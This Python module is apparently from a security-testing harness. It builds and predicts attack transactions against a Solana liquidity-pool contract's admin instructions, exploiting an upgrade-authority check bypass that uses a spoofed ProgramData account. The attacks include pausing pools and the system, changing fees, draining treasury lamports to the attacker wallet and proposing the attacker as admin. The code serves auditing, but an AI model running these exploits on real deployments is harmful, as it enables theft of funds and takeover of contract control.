"""Category "admin": every admin instruction signed by the attack wallet (not the admin), with
the ProgramData slot holding (i) the real ProgramData PDA — refused, the signer is neither the
admin nor the upgrade authority —, (ii) the attacker's own wallet, (iii) the System program —
accepted on v0.17.1070: the upgrade-authority fallback passes any signer when that account is
not owned by the upgradeable loader (CONTRACT.md §4.0 `AD`, §13.1). Predictions follow each
instruction's check order (§4.6-§4.13); a successful attack is undone right after it."""
from __future__ import annotations

from solders.pubkey import Pubkey

from engine.attacks.base import PROGRAM_DATA_VARIANTS, Attack, Built, Context, Expect, Scene, authorized
from engine.frt import instructions as ix
from engine.frt import model
from engine.frt.constants import (
    CU_LIMITS,
    FLAG_LIQUIDITY_PAUSED,
    FLAG_SWAP_FOR_OWNERS_ONLY,
    FLAG_SWAPS_PAUSED,
    MAX_LIQUIDITY_FEE,
    MAX_SWAP_FEE,
    MIN_LIQUIDITY_FEE,
    MIN_SWAP_FEE,
    MIN_TREASURY_WITHDRAWAL,
    PAUSE_IX_LIQUIDITY,
    PAUSE_IX_SWAPS,
)
from engine.frt.errors import ProgramError
from engine.frt.state import MainTreasuryState

SYSTEM_PAUSED = {"Custom": model.ERR_SYSTEM_PAUSED}
REFUSED = "InvalidAccountData"  # every failure of the admin check (§4.0 AD)
CONSOLIDATE_CU = 400_000


def _pause_bits_to_ix(state_bits: int) -> int:
    """Pool state pause bits (2, 4) -> PausePool/UnpausePool instruction bits (1, 2)."""
    return (PAUSE_IX_LIQUIDITY if state_bits & FLAG_LIQUIDITY_PAUSED else 0) | \
        (PAUSE_IX_SWAPS if state_bits & FLAG_SWAPS_PAUSED else 0)


class AdminAttack(Attack):
    category = "admin"

    def __init__(self, variant: str, *, undoing: bool = False) -> None:
        self.variant = variant
        self.undoing = undoing
        self.name = f"{'undo:' if undoing else ''}{self.action}[{variant}]"

    def extra_accounts(self, ctx: Context) -> list[Pubkey]:
        return [ctx.program_data_key(self.variant)]

    def program_data(self, ctx: Context) -> Pubkey:
        return ctx.program_data_key(self.variant)

    def passes_admin_check(self, ctx: Context, scene: Scene) -> bool:
        return authorized(scene, ctx.wallet.pubkey, self.program_data(ctx), ctx.program_id)

    def built(self, ctx: Context, instruction, **params) -> Built:
        return Built([ix.compute_unit_limit(params.pop("_cu", CU_LIMITS["admin"])), instruction],
                     {**params, "program_data": str(self.program_data(ctx)), "program_data_variant": self.variant,
                      "undo": self.undoing})

    def pool_gate(self, ctx: Context, scene: Scene) -> Expect | None:
        """PausePool / UnpausePool / SetSwapOwnerOnly / UpdatePoolFees: `SP` then `AD` (§4.6)."""
        if scene.system_paused:
            return Expect(SYSTEM_PAUSED, why="SP: the system is paused")
        if not self.passes_admin_check(ctx, scene):
            return Expect(REFUSED, why="AD: not the admin, and the real ProgramData names another upgrade authority")
        return None


# ------------------------------------------------------------------------------ pool settings


class PausePool(AdminAttack):
    action = "pause_pool"

    def __init__(self, variant: str, flags: int = PAUSE_IX_LIQUIDITY | PAUSE_IX_SWAPS, **kw) -> None:
        self.flags = flags
        super().__init__(variant, **kw)

    def build(self, ctx, scene):
        return self.built(ctx, ix.pause_pool(ctx.program_id, ctx.wallet.pubkey, ctx.pool.addresses.pool_state,
                                             self.flags, self.program_data(ctx)), flags=self.flags)

    def predict(self, ctx, scene, built):
        return self.pool_gate(ctx, scene) or Expect(pool={"flags": model.apply_pause(scene.pool.flags, self.flags)},
                                                    why="AD bypass (§13.1)")

    def undo(self, ctx, before, after):
        added = after.pool.flags & ~before.pool.flags & (FLAG_LIQUIDITY_PAUSED | FLAG_SWAPS_PAUSED)
        return [UnpausePool(self.variant, _pause_bits_to_ix(added), undoing=True)] if added else []


class UnpausePool(AdminAttack):
    action = "unpause_pool"

    def __init__(self, variant: str, flags: int = PAUSE_IX_LIQUIDITY | PAUSE_IX_SWAPS, **kw) -> None:
        self.flags = flags
        super().__init__(variant, **kw)

    def build(self, ctx, scene):
        return self.built(ctx, ix.unpause_pool(ctx.program_id, ctx.wallet.pubkey, ctx.pool.addresses.pool_state,
                                               self.flags, self.program_data(ctx)), flags=self.flags)

    def predict(self, ctx, scene, built):
        return self.pool_gate(ctx, scene) or Expect(
            pool={"flags": model.apply_unpause(scene.pool.flags, self.flags)}, why="AD bypass (§13.1)")

    def undo(self, ctx, before, after):
        cleared = before.pool.flags & ~after.pool.flags & (FLAG_LIQUIDITY_PAUSED | FLAG_SWAPS_PAUSED)
        return [PausePool(self.variant, _pause_bits_to_ix(cleared), undoing=True)] if cleared else []


class SetSwapOwnerOnly(AdminAttack):
    action = "set_swap_owner_only"

    def __init__(self, variant: str, enable: bool = True, owner: Pubkey | None = None, **kw) -> None:
        self.enable, self.owner = enable, owner
        super().__init__(variant, **kw)

    def designated(self, ctx) -> Pubkey:
        return self.owner or ctx.wallet.pubkey

    def build(self, ctx, scene):
        owner = self.designated(ctx)
        return self.built(ctx, ix.set_swap_owner_only(ctx.program_id, ctx.wallet.pubkey,
                                                      ctx.pool.addresses.pool_state, self.enable, owner,
                                                      self.program_data(ctx)),
                          enable=self.enable, designated_owner=str(owner))

    def predict(self, ctx, scene, built):
        gate = self.pool_gate(ctx, scene)
        if gate:
            return gate
        changes = {"flags": model.apply_swap_owner_only(scene.pool.flags, self.enable)}
        if self.enable:
            changes["owner"] = self.designated(ctx)
        return Expect(pool=changes, why="AD bypass (§13.1)")

    def undo(self, ctx, before, after):
        """Enabling again with the old owner puts the owner back (§4.7); disabling then clears
        the flag where it was clear — so even the ownership change is undone."""
        steps: list[Attack] = []
        if after.pool.owner != before.pool.owner:
            steps.append(SetSwapOwnerOnly(self.variant, True, before.pool.owner, undoing=True))
        if not before.pool.flags & FLAG_SWAP_FOR_OWNERS_ONLY and after.pool.flags & FLAG_SWAP_FOR_OWNERS_ONLY:
            steps.append(SetSwapOwnerOnly(self.variant, False, undoing=True))
        elif before.pool.flags & FLAG_SWAP_FOR_OWNERS_ONLY and not after.pool.flags & FLAG_SWAP_FOR_OWNERS_ONLY \
                and not steps:
            steps.append(SetSwapOwnerOnly(self.variant, True, before.pool.owner, undoing=True))
        return steps


class UpdatePoolFees(AdminAttack):
    action = "update_pool_fees"

    def __init__(self, variant: str, liquidity_fee: int | None = None, swap_fee: int | None = None,
                 flags: int = 3, **kw) -> None:
        self.liquidity_fee, self.swap_fee, self.flags = liquidity_fee, swap_fee, flags
        super().__init__(variant, **kw)

    def fees(self, scene) -> tuple[int, int]:
        """Valid fees different from the current ones: the cheapest the contract allows."""
        pool = scene.pool
        liquidity = self.liquidity_fee if self.liquidity_fee is not None else \
            (MIN_LIQUIDITY_FEE if pool.contract_liquidity_fee != MIN_LIQUIDITY_FEE else MAX_LIQUIDITY_FEE)
        swap = self.swap_fee if self.swap_fee is not None else \
            (MIN_SWAP_FEE if pool.swap_contract_fee != MIN_SWAP_FEE else MAX_SWAP_FEE)
        return liquidity, swap

    def build(self, ctx, scene):
        liquidity, swap = self.fees(scene)
        return self.built(ctx, ix.update_pool_fees(ctx.program_id, ctx.wallet.pubkey, ctx.pool.addresses.pool_state,
                                                   self.flags, liquidity, swap, self.program_data(ctx)),
                          update_flags=self.flags, liquidity_fee=liquidity, swap_fee=swap,
                          old_liquidity_fee=scene.pool.contract_liquidity_fee,
                          old_swap_fee=scene.pool.swap_contract_fee)

    def predict(self, ctx, scene, built):
        gate = self.pool_gate(ctx, scene)
        if gate:
            return gate
        liquidity, swap = self.fees(scene)
        try:
            new_liquidity, new_swap = model.check_update_pool_fees(self.flags, liquidity, swap)
        except ProgramError as exc:
            return Expect(exc.error, why="fee bounds (§4.8)")
        changes = {}
        if new_liquidity is not None:
            changes["contract_liquidity_fee"] = new_liquidity
        if new_swap is not None:
            changes["swap_contract_fee"] = new_swap
        return Expect(pool=changes, why="AD bypass (§13.1)")

    def undo(self, ctx, before, after):
        if (before.pool.contract_liquidity_fee, before.pool.swap_contract_fee) == \
                (after.pool.contract_liquidity_fee, after.pool.swap_contract_fee):
            return []
        return [UpdatePoolFees(self.variant, before.pool.contract_liquidity_fee, before.pool.swap_contract_fee,
                               undoing=True)]


# ------------------------------------------------------------------------------ system and treasury


class PauseSystem(AdminAttack):
    action = "pause_system"
    scope = "system"

    def __init__(self, variant: str, reason_code: int = 66, **kw) -> None:
        self.reason_code = reason_code
        super().__init__(variant, **kw)

    def build(self, ctx, scene):
        return self.built(ctx, ix.pause_system(ctx.program_id, ctx.wallet.pubkey, self.reason_code,
                                               self.program_data(ctx)), reason_code=self.reason_code)

    def predict(self, ctx, scene, built):
        if not self.passes_admin_check(ctx, scene):
            return Expect(REFUSED, why="AD (§4.9)")
        if scene.system_paused:
            return Expect({"Custom": model.ERR_SYSTEM_ALREADY_PAUSED}, why="already paused (§4.9)")
        return Expect(system={"is_paused": True, "pause_reason_code": self.reason_code}, why="AD bypass (§13.1)")

    def undo(self, ctx, before, after):
        return [UnpauseSystem(self.variant, undoing=True)] if after.system_paused and not before.system_paused else []


class UnpauseSystem(AdminAttack):
    action = "unpause_system"
    scope = "system"
    undo_note = "UnpauseSystem also starts the treasury's 71 h withdrawal penalty (§4.9); that stays"

    def build(self, ctx, scene):
        return self.built(ctx, ix.unpause_system(ctx.program_id, ctx.wallet.pubkey, self.program_data(ctx)))

    def predict(self, ctx, scene, built):
        if not self.passes_admin_check(ctx, scene):
            return Expect(REFUSED, why="AD (§4.9)")
        if not scene.system_paused:
            return Expect({"Custom": model.ERR_SYSTEM_NOT_PAUSED}, why="not paused (§4.9)")
        return Expect(system={"is_paused": False, "pause_reason_code": 0}, why="AD bypass (§13.1)")

    def undo(self, ctx, before, after):
        if before.system_paused and not after.system_paused:
            return [PauseSystem(self.variant, before.system.pause_reason_code, undoing=True)]
        return []


class WithdrawTreasuryFees(AdminAttack):
    action = "withdraw_treasury_fees"
    scope = "system"
    early = True  # any UnpauseSystem (the undo of a system pause) blocks withdrawals for 72 h (§4.9)
    undo_note = "a treasury withdrawal cannot be undone: the lamports are in the attacker's wallet"

    def __init__(self, variant: str, amount: int = MIN_TREASURY_WITHDRAWAL, **kw) -> None:
        self.amount = amount
        super().__init__(variant, **kw)

    def build(self, ctx, scene):
        return self.built(ctx, ix.withdraw_treasury_fees(ctx.program_id, ctx.wallet.pubkey, ctx.wallet.pubkey,
                                                         self.amount, self.program_data(ctx)),
                          amount=self.amount, destination=str(ctx.wallet.pubkey))

    def predict(self, ctx, scene, built):
        if scene.system_paused:
            return Expect(SYSTEM_PAUSED, why="SP (§4.10)")
        if not self.passes_admin_check(ctx, scene):
            return Expect(REFUSED, why="AD (§4.10)")
        treasury = scene.treasury or MainTreasuryState()
        try:
            withdrawn = model.check_treasury_withdrawal(
                amount=self.amount, treasury_lamports=scene.treasury_lamports,
                stored_total_balance=treasury.total_balance,
                stored_rent_exempt_minimum=treasury.rent_exempt_minimum,
                last_withdrawal_timestamp=treasury.last_withdrawal_timestamp, now=scene.now)
        except ProgramError as exc:
            return Expect(exc.error, why="treasury rate limit / availability (§4.10)")
        return Expect(treasury_lamports_change=-withdrawn, why="AD bypass (§13.1): the treasury pays the attacker")


class ConsolidatePoolFees(AdminAttack):
    action = "consolidate_pool_fees"
    scope = "system"

    def build(self, ctx, scene):
        return self.built(ctx, ix.consolidate_pool_fees(ctx.program_id, ctx.wallet.pubkey,
                                                        [ctx.pool.addresses.pool_state], self.program_data(ctx)),
                          pools=[str(ctx.pool.addresses.pool_state)], _cu=CONSOLIDATE_CU)

    def predict(self, ctx, scene, built):
        if not self.passes_admin_check(ctx, scene):
            return Expect(REFUSED, why="AD (§4.12)")
        pool, state = scene.view.pool, scene.pool
        eligible = scene.system_paused or (state.flags & FLAG_LIQUIDITY_PAUSED and state.flags & FLAG_SWAPS_PAUSED)
        moved = 0
        if eligible and state.total_sol_fees_collected - state.total_fees_consolidated:
            moved = model.consolidation(pool.lamports, state.collected_liquidity_fees,
                                        state.collected_swap_contract_fees).a
        return Expect(pool_lamports_change=-moved, treasury_lamports_change=moved,
                      why="AD bypass (§13.1); only eligible pools move fees (§4.12)")


class ProcessAdminChange(AdminAttack):
    action = "process_admin_change"
    scope = "system"
    undo_note = "the pending admin is put back but its 72 h timer restarts (§4.13 has no cancel)"

    def __init__(self, variant: str, new_admin: Pubkey | None = None, **kw) -> None:
        self.new_admin = new_admin
        super().__init__(variant, **kw)

    def proposed(self, ctx) -> Pubkey:
        return self.new_admin or ctx.wallet.pubkey

    def build(self, ctx, scene):
        new_admin = self.proposed(ctx)
        return self.built(ctx, ix.process_admin_change(ctx.program_id, ctx.wallet.pubkey, new_admin,
                                                       self.program_data(ctx)), new_admin=str(new_admin))

    def predict(self, ctx, scene, built):
        if scene.system_paused:
            return Expect(SYSTEM_PAUSED, why="SP (§4.13)")
        if not self.passes_admin_check(ctx, scene):
            return Expect(REFUSED, why="AD (§4.13)")
        system = scene.system
        change = model.admin_change(admin=system.admin_authority, pending=system.pending_admin_authority,
                                    change_timestamp=system.admin_change_timestamp, new_admin=self.proposed(ctx),
                                    now=scene.now)
        return Expect(system={"admin_authority": change.admin, "pending_admin_authority": change.pending},
                      why=f"AD bypass (§13.1): admin change {change.outcome}")

    def undo(self, ctx, before, after):
        old, new = before.system, after.system
        if (old.admin_authority, old.pending_admin_authority) == (new.admin_authority, new.pending_admin_authority):
            return []
        return [ProcessAdminChange(self.variant, old.pending_admin_authority or old.admin_authority, undoing=True)]


ADMIN_ATTACKS = (PausePool, UnpausePool, PauseSystem, UnpauseSystem, UpdatePoolFees, SetSwapOwnerOnly,
                 WithdrawTreasuryFees, ConsolidatePoolFees, ProcessAdminChange)


def catalogue() -> list[Attack]:
    return [cls(variant) for cls in ADMIN_ATTACKS for variant in PROGRAM_DATA_VARIANTS]
